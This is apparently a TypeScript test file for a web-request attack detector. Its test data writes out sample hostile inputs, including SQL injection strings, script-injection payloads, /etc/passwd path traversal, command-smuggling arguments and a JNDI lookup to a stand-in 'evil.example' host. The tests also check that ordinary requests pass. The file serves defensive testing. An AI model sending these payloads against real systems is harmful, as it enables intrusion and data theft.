// What looks like an attack, and what only has a strange name.

import assert from "node:assert/strict";
import { test } from "node:test";

import { findAttackSign, type AttackSign } from "./attack-signs.ts";

const FINDS: readonly (readonly [AttackSign, string])[] = [
  ["sql", "/api/v1/teams/x?cursor=' or 1=1 --"],
  ["sql", "/x?q=%27%20OR%20%271%27=%271"],
  ["sql", "/x?q=1+UNION+ALL+SELECT+password"],
  ["sql", "/x?q=1);select+pg_sleep(5)"],
  ["script", "/?q=%3Cscript%3Ealert(1)"],
  ["script", "/?q=<img src=x onerror=alert(1)>"],
  ["script", "/?to=javascript:alert(1)"],
  ["path", "/../../etc/passwd"],
  ["path", "/%2e%2e/%2e%2e/secret"],
  ["path", "/..\\..\\win.ini"],
  ["command", "/?q=;cat /x"],
  ["command", "/?q=--upload-pack=touch"],
  ["template", "${jndi:ldap://evil.example/a}"],
  ["template", "/?q={{7*7}}"],
  ["null byte", "/x%00.png"],
  ["known hole", "/wp-login.php"],
  ["known hole", "/.env"],
];

for (const [sign, text] of FINDS) test(`a sign of «${sign}»: ${text}`, () => assert.equal(findAttackSign(text), sign));

test("ordinary requests have none", () => {
  for (const text of ["/", "/teams/x/vaults?limit=5", "/favicon.ico", "/assets/index-a1b2.js", "Mozilla/5.0 (X11; Linux x86_64)", "/api/v1/x?q=it's or isn't", "/docs/union-of-selectors", "/o'brien"]) {
    assert.equal(findAttackSign(text), null, text);
  }
});

test("a very long text is looked at in no time", () => {
  for (const piece of ["'", "{{", "<", " or ", "../ ", "union ", "#{"]) {
    const started = performance.now();
    findAttackSign(piece.repeat(100_000));
    assert.ok(performance.now() - started < 200, piece);
  }
});
